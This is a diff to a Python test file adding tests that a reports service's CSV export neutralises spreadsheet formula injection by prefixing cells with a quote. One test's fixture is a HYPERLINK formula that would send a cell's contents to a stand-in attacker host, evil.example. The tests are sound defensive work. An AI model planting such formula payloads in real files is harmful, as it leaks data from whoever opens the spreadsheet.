@@ -11,6 +11,7 @@ from uuid import UUID
 
 import pytest
 
+from api.reports import inert
 from domain.access import Actor, Role
 from domain.deadlines import Kind
 from domain.delivery import ReminderDelivery
@@ -312,6 +313,35 @@ def test_exports_are_spreadsheet_ready(api: Caller, world: World,
     as_json = json.loads(api.as_(None).get(f"/reports/dialogues/{world.dialogue}",
                                            format="json").data)
     assert [q["answered"] for q in as_json["questions"]] == [True, True]
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@"])
+def test_a_cell_that_a_spreadsheet_would_run_is_written_as_text(
+        api: Caller, world: World, start: str) -> None:
+    """Issue 15 §3: text anyone typed, starting as a formula would, is exported
+    with a leading quote (every CSV goes through one function; a leading tab
+    or return never gets this far, since text is trimmed on the way in)."""
+    text = f'{start}HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")'
+    created(api.post("/api/v1/commitments", {
+        "agency": "SYT", "kind": "review", "dialogue_id": world.dialogue,
+        "due_on": "2024-08-01", "text": text}))
+    public = list(csv.DictReader(io.StringIO(api.as_(None).get(
+        "/reports/agencies/SYT", format="csv").data.decode("utf-8-sig"))))
+    [row] = [r for r in public if "HYPERLINK" in r["text"]]
+    assert row["text"] == "'" + text
+    assert all(not value.startswith(("=", "+", "@")) for r in public for value in r.values())
+    # Numbers stay numbers: only text is quoted.
+    assert any(r["days_overdue"].isdigit() and r["days_overdue"] != "0" for r in public)
+
+
+@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx"])
+def test_inert_quotes_whatever_a_spreadsheet_would_run(text: str) -> None:
+    assert inert(text) == "'" + text
+
+
+@pytest.mark.parametrize("text", ["Sở Y tế", "1-2", "a=b", "", "'=already"])
+def test_inert_leaves_plain_text_alone(text: str) -> None:
+    assert inert(text) == text
 
 
 def test_the_bare_address_leads_to_the_report(api: Caller) -> None:
